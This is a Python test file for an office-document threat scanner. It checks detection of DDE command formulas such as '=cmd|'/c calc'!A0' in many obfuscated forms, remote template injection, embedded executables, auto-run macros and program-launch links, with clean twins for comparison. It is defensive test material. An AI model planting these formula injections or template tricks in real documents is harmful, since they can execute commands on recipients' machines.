"""Acceptance of office documents: what was expected was written down before it was examined; clean twins stand beside."""

# ruff: noqa: E501 - rows of tables with the text of whole files

from __future__ import annotations

import io
import random

import forged_files as made
import pytest
from forged_files import PE, PNG, RELS, docx, field, opendocument, pptx, relation, xlsx

from sensors.transfer.content.examine import examine
from sensors.transfer.verdict import Content, Reason

CMD = "=cmd|'/c calc'!A0"
MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def factors(data: bytes, name: str) -> set[str]:
    return {f.value for f in examine(data, name).names}


WORD = {
    "plain": (docx("<w:p><w:r><w:t>DDEAUTO JavaScript パスワード ='x'</w:t></w:r></w:p>"), set()),
    "hyperlink": (docx(rels=relation("hyperlink", "https://www.city.example/")), {"uri"}),
    "anchor": (docx('<w:hyperlink w:anchor="a"/>' + field(" PAGEREF a \\h ") + field(' TOC \\o "1-3" ') + field(" REF a ")), set()),
    "dde over four runs": (docx(field("D", "D", "EAU", "TO c:\\\\w\\\\cmd.exe")), {"dde"}),
    "dde in header": (docx(parts={"word/header1.xml": f"<w:hdr {made.W}>{field('DDE a b')}</w:hdr>"}), {"dde"}),
    "dde in footnotes by fldSimple": (docx(parts={"word/footnotes.xml": f'<w:f {made.W}><w:fldSimple w:instr=" DDEAUTO a b "/></w:f>'}), {"dde"}),
    "nested quote": (docx(field("QUOTE 0068 68 69 32 97 32 98")), {"dde"}),
    "includetext over http": (docx(field(' INCLUDETEXT "http://h.example/x.docx" ')), {"external_link"}),
    "mail merge source": (docx(parts={"word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation("mailMergeSource", "//h.example/s/a.xlsx")}</Relationships>'}), {"external_link"}),
    "template by unc long form": (docx(rels=relation("attachedTemplate", r"\\?\UNC\h.example\s\t.dotm")), {"template_injection"}),
    "template by http in settings": (docx(parts={"word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation("attachedTemplate", "HTTP://H.example/t.dotm")}</Relationships>'}), {"template_injection"}),
    "local template": (docx(rels=relation("attachedTemplate", "file:///C:/Users/x/AppData/Normal.dotm")), set()),
    "image over http": (docx(rels=relation("image", "http://h.example/a.png")), {"external_link"}),
    "image over unc": (docx(rels=relation("image", "file://///192.0.2.9/a.png")), {"external_link"}),
    "image inside": (docx(rels=relation("image", "media/a.png", external=False), parts={"word/media/a.png": PNG}), set()),
    "altchunk html": (docx(rels=relation("aFChunk", "a.html", external=False), parts={"word/a.html": "<html><script>x()</script></html>"}), {"embedded_object", "javascript"}),
    "altchunk rtf": (docx(rels=relation("aFChunk", "a.rtf", external=False), parts={"word/a.rtf": r"{\rtf1{\field{\*\fldinst DDEAUTO a b}}}"}), {"embedded_object", "dde"}),
    "ole by http": (docx(rels=relation("oleObject", "https://h.example/a.html!")), {"external_link"}),
    "package exe": (docx(rels=relation("package", "embeddings/a.bin", external=False), parts={"word/embeddings/a.bin": PE}), {"embedded_object", "embedded_executable"}),
    "embedded workbook": (docx(rels=relation("package", "embeddings/a.xlsx", external=False), parts={"word/embeddings/a.xlsx": xlsx()}), {"embedded_object"}),
    "ole10native": (docx(rels=relation("oleObject", "embeddings/o.bin", external=False), parts={"word/embeddings/o.bin": made.compound({"\x01Ole10Native": made.package_stream(b"a.exe", PE)})}), {"embedded_object", "embedded_executable"}),
    "activex": (docx(rels=relation("control", "activeX/activeX1.xml", external=False), parts={"word/activeX/activeX1.xml": "<a/>"}), {"activex"}),
    "ribbon calling away": (docx(parts={"customUI/customUI.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="https://h.example/a.dotm!m.f"/>'}), {"external_link"}),
    "ribbon": (docx(parts={"customUI/customUI.xml": '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="f"/>'}), set()),
    "frame": (docx(parts={"word/_rels/webSettings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation("frame", "http://h.example/")}</Relationships>'}), {"external_link"}),
    "vml image": (docx('<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://h.example/a.png"/></w:pict>'), {"external_link"}),
    "properties": (docx(parts={"docProps/app.xml": '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Template>Normal.dotm</Template></Properties>', "docProps/core.xml": "<a>DDE password</a>"}), set()),
    "utf-16 relations": (docx(parts={"word/_rels/settings.xml.rels": f'<?xml version="1.0" encoding="UTF-16"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation("attachedTemplate", "http://h.example/t.dotm")}</Relationships>'.encode("utf-16")}), {"template_injection"}),
    "utf-16 document": (docx(parts={"word/header2.xml": f'<?xml version="1.0" encoding="UTF-16"?><w:hdr {made.W}>{field("DDEAUTO a b")}</w:hdr>'.encode("utf-16")}), {"dde"}),
}  # fmt: skip


@pytest.mark.parametrize("case", WORD)
def test_word(case: str) -> None:
    data, want = WORD[case]
    assert factors(data, "文書.docx") == want


CELL = '<row r="1"><c r="A1"><f>{}</f><v>0</v></c></row>'
BOOK = {
    "plain": (xlsx(CELL.format("SUM(A2:A3)-1")), "a.xlsx", set()),
    "text that looks": (xlsx('<row><c t="inlineStr"><is><t>=cmd|&apos;/c calc&apos;!A0</t></is></c></row>'), "a.xlsx", set()),
    "dde formula": (xlsx(CELL.format("cmd|'/c calc'!A0")), "a.xlsx", {"dde"}),
    "webservice": (xlsx(CELL.format('WEBSERVICE("http://h.example/"&amp;A2)')), "a.xlsx", {"external_link"}),
    "other book": (xlsx(parts={"xl/externalLinks/_rels/externalLink1.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relation("externalLinkPath", "book2.xlsx")}</Relationships>', "xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "a.xlsx", {"external_link"}),
    "dde link part": (xlsx(parts={"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c"/></externalLink>'}), "a.xlsx", {"dde"}),
    "macro sheet": (xlsx(main=MACRO_BOOK, parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='http://schemas.microsoft.com/office/excel/2006/main'/>"}, workbook='<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName></definedNames>'), "a.xlsm", {"macro", "auto_exec"}),
    "macro template": (xlsx(main="application/vnd.ms-excel.template.macroEnabled.main+xml", rels='<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="odd/m.xml"/>', parts={"xl/odd/m.xml": "<a/>"}), "a.xltm", {"macro"}),
    "binary macro sheet": (xlsx(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main", parts={"xl/macrosheets/sheet1.bin": bytes(40), "xl/workbook.bin": "auto_open".encode("utf-16-le")}), "a.xlsb", {"macro", "auto_exec"}),
    "binary book with the words": (xlsx(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main", parts={"xl/sharedStrings.bin": "auto_open".encode("utf-16-le"), "xl/workbook.bin": bytes(20)}), "a.xlsb", set()),
    "macro book renamed": (xlsx(main=MACRO_BOOK, parts={"xl/vbaProject.bin": b"x"}), "a.xlsx", {"macro", "ext_mismatch"}),
    "names and validation": (xlsx(workbook='<definedNames><definedName name="_xlnm.Print_Area">S!$A$1</definedName><definedName name="自動">S!$A$1</definedName></definedNames>'), "a.xlsx", set()),
    "connection": (xlsx(parts={"xl/connections.xml": '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4"><webPr url="http://h.example/x"/></connection></connections>'}), "a.xlsx", {"external_link"}),
    "macro sheet of 97": (made.workbook97(made.record(0x85, b"\0\0\0\0\0\x01\x01\0M"), made.record(0x18, b"\x20\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\x01")), "a.xls", {"macro", "auto_exec"}),
    "worksheet of 97": (made.workbook97(made.record(0x85, b"\0\0\0\0\0\0\x01\0S"), made.record(0xFC, b"auto_open cmd|' /c'!A0")), "a.xls", set()),
    "dde of 97": (made.workbook97(made.record(0x1AE, b"\0\0\x07\0\0cmd\x03/ c")), "a.xls", {"dde"}),
}  # fmt: skip


@pytest.mark.parametrize("case", BOOK)
def test_workbook(case: str) -> None:
    data, name, want = BOOK[case]
    assert factors(data, name) == want


SLIDE = {
    "plain": (pptx("<a:t>JavaScript</a:t>"), set()),
    "link": (pptx('<a:hlinkClick r:id="r1"/>', relation("hyperlink", "https://h.example/")), {"uri"}),
    "next slide": (pptx('<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>'), set()),
    "program": (pptx('<a:hlinkMouseOver r:id="r1" action="ppaction://program"/>', relation("hyperlink", "file:///C:/Windows/System32/cmd.exe")), {"launch", "uri"}),
    "macro action": (pptx('<a:hlinkClick r:id="" action="ppaction://macro?name=M"/>'), {"launch"}),
    "ole verb": (pptx('<a:hlinkClick r:id="" action="ppaction://ole?verb=0"/>'), {"launch"}),
    "video": (pptx("", relation("video", "http://h.example/a.mp4")), {"external_link"}),
    "sound": (pptx("", relation("audio", "file:///\\\\h.example\\s\\a.wav")), {"external_link"}),
}  # fmt: skip


@pytest.mark.parametrize("case", SLIDE)
def test_presentation(case: str) -> None:
    data, want = SLIDE[case]
    assert factors(data, "a.pptx") == want


ODF = {
    "plain": (opendocument("text", "<text:p>DDE</text:p>"), "a.odt", set()),
    "link": (opendocument("text", '<text:a xlink:href="https://h.example/">x</text:a>'), "a.odt", {"uri"}),
    "basic": (opendocument("text", "", {"Basic/Standard/M.xml": "<a>Sub Main</a>", "Basic/script-lc.xml": "<a/>"}), "a.odt", {"macro"}),
    "empty basic lists": (opendocument("text", "", {"Basic/script-lc.xml": "<a/>", "Basic/Standard/script-lb.xml": "<a/>"}), "a.odt", set()),
    "python": (opendocument("spreadsheet", "", {"Scripts/python/m.py": "print()"}), "a.ods", {"macro"}),
    "event": (opendocument("text", '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:S.M.f?language=Basic&amp;location=document"/></office:event-listeners></office:scripts>'), "a.odt", {"macro", "auto_exec"}),
    "image away": (opendocument("text", '<draw:image xlink:href="http://h.example/a.png"/>'), "a.odt", {"external_link"}),
    "section away": (opendocument("text", '<text:section-source xlink:href="file://h.example/s/a.odt"/>'), "a.odt", {"external_link"}),
    "dde source": (opendocument("text", '<office:dde-source office:dde-application="soffice"/>'), "a.odt", {"dde"}),
    "dde formula": (opendocument("spreadsheet", '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)"/>'), "a.ods", {"dde"}),
    "sums": (opendocument("spreadsheet", '<table:table-cell table:formula="of:=SUM([.A1:.A2])-1"/>'), "a.ods", set()),
    "web formula": (opendocument("spreadsheet", '<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://h.example/&quot;)"/>'), "a.ods", {"external_link"}),
    "object": (opendocument("text", '<draw:object-ole xlink:href="./Object 1"/>', {"Object 1": made.compound({"\x01Ole10Native": made.package_stream(b"a.txt", b"hello")})}), "a.odt", {"embedded_object"}),
    "formula object": (opendocument("text", '<draw:object xlink:href="./Object 1"/>', {"Object 1/content.xml": "<math/>"}), "a.odt", set()),
}  # fmt: skip


@pytest.mark.parametrize("case", ODF)
def test_opendocument(case: str) -> None:
    data, name, want = ODF[case]
    assert factors(data, name) == want


RTF = {
    "plain": (r"{\rtf1\ansi DDEAUTO \'93\'fa\'96\'7b }", set()),
    "link": (r'{\rtf1{\field{\*\fldinst{HYPERLINK "https://h.example/"}}{\fldrslt x}}}', {"uri"}),
    "page number": (r"{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}}}", set()),
    "dde in groups": (r"{\rtf1{\field{\*\fldinst {\b D}{DEA}UTO {c:\\a}}}}", {"dde"}),
    "dde in hex": (r"{\rtf1{\field{\*\fldinst \'44\'44\'45 a b}}}", {"dde"}),
    "dde in unicode": (r"{\rtf1{\field{\*\fldinst \u68 ?\u68 ?\u69 ? a b}}}", {"dde"}),
    "picture away": (r'{\rtf1{\field{\*\fldinst INCLUDEPICTURE "http://h.example/a.png" \\d}}}', {"external_link"}),
    "template": (r"{\rtf1{\*\template http://h.example/t.dotm}}", {"template_injection"}),
    "template in unicode": (r"{\rtf1{\*\template \u104?\u116?\u116?\u112?://h.example/t.dotm}}", {"template_injection"}),
    "template at home": (r"{\rtf1{\*\template C:\\x\\Normal.dotm}}", set()),
    "object": (r"{\rtf1{\object\objemb{\*\objdata " + (b"\x01\x05\0\0\x02\0\0\0\x08\0\0\0Package\0\0\0\0\0\0\0\0\0" + made.package_stream(b"a.exe", PE)).hex() + "}}}", {"embedded_object", "embedded_executable"}),
    "object strewn": (r"{\rtf1{\object\objocx{\*\objdata 01{\x}05 0000" + "\r\n" + (b"\x02\0\0\0\x02\0\0\0a\0\0\0\0\0\0\0\0\0\x04\0\0\0abcd").hex() + "}}}", {"embedded_object", "activex"}),
}  # fmt: skip


@pytest.mark.parametrize("case", RTF)
def test_rtf(case: str) -> None:
    data, want = RTF[case]
    assert factors(data.encode(), "a.rtf") == want


def locked_office(data: bytes, password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile  # noqa: PLC0415 - slow to load

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(data)).encrypt(password, out)
    return out.getvalue()


def test_a_locked_document_is_unverifiable_and_one_with_the_default_password_is_read() -> None:
    closed = examine(locked_office(docx(), "p"), "a.docx")
    assert closed.content is Content.UNVERIFIABLE
    assert {f.value for f in closed.names} == {"encrypted"}
    assert {g.reason for g in closed.gaps} == {Reason.ENCRYPTED}
    padded = xlsx(CELL.format("cmd|'/c'!A0"), parts={"xl/media/a.bin": random.Random(1).randbytes(9000)})
    opened = examine(locked_office(padded, "VelvetSweatshop"), "a.xlsx")
    assert {f.value for f in opened.names} == {"encrypted", "dde"}
    assert not opened.gaps


def test_outer_relation_types_of_strict_documents_are_the_same() -> None:
    data = docx(
        rels=relation("attachedTemplate", "http://h.example/t.dotm").replace(
            RELS, "http://purl.oclc.org/ooxml/officeDocument/relationships"
        )
    )
    assert factors(data, "a.docx") == {"template_injection"}


TABLES = {
    "numbers": ('日付,額\r\n2026-11-21,-1200\r\n,+3.5%\r\n,"-1,200"\r\n', set()),
    "telephone": ("03-1234-5678,+81-3-1234-5678,-\r\n", set()),
    "mail and twitter": ("@city,=,+,a=b,a|b!c\r\n", set()),
    "japanese prose": ("手順: =SUM(A1)を入力|確認!\r\n", set()),
    "dde": (CMD + "\r\n", {"dde"}),
    "dde in quotes": ('a,"' + CMD + '"\r\n', {"dde"}),
    "dde semicolon": ("a;" + CMD + ";b\r\n", {"dde"}),
    "dde tab": ("a\t" + CMD + "\tb\r\n", {"dde"}),
    "dde plus": ("+cmd|'/c calc'!A0\r\n", {"dde"}),
    "dde at": ("@SUM(1+1)*cmd|'/c calc'!A0\r\n", {"dde"}),
    "dde minus": ("-2+3+cmd|'/c calc'!A0\r\n", {"dde"}),
    "dde over two lines": ("a,\"=cmd|'/c\ncalc'!A0\"\r\n", {"dde"}),
    "dde with macintosh lines": ("a,b\r" * 20000 + CMD + "\r", {"dde"}),
    "full-width": ("＝cmd|'/c calc'!A0\r\n", {"dde"}),
    "calc function": ('=DDE("cmd";"/c calc";"x")\r\n', {"dde"}),
    "importxml": ('=IMPORTXML("http://h.example/","//a")\r\n', {"external_link"}),
    "hyperlink": ('=HYPERLINK("http://h.example/?"&A1,"x")\r\n', {"uri"}),
    "sep line": ("sep=^\r\na^" + CMD + "\r\n", {"dde"}),
    "pipe separated": ("a|b|c\r\n1|-2|3!\r\n", set()),
}  # fmt: skip


@pytest.mark.parametrize("codec", ["utf-8-sig", "cp932", "utf-16"])
@pytest.mark.parametrize("case", TABLES)
def test_csv(case: str, codec: str) -> None:
    text, want = TABLES[case]
    assert factors(text.encode(codec), "名簿.csv") == want


@pytest.mark.parametrize(
    ("data", "name", "want"),
    [
        ("ID;PWXL;N;E\r\nC;X1;Y1;K1;E" + "SUM(A2)" + "\r\nE\r\n", "a.slk", set()),
        ("ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nE\r\n", "a.slk", {"macro", "auto_exec"}),
        ("ID;P\r\nC;X1;Y1;K0;Ecmd|'/c calc'!A0\r\nE\r\n", "a.slk", {"dde"}),
        ("WEB\r\n1\r\nhttp://h.example/\r\n", "a.iqy", {"external_link"}),
        ("ID;name\r\n1;山田\r\n", "a.csv", set()),
    ],
)
def test_other_tables(data: str, name: str, want: set[str]) -> None:
    assert factors(data.encode(), name) == want
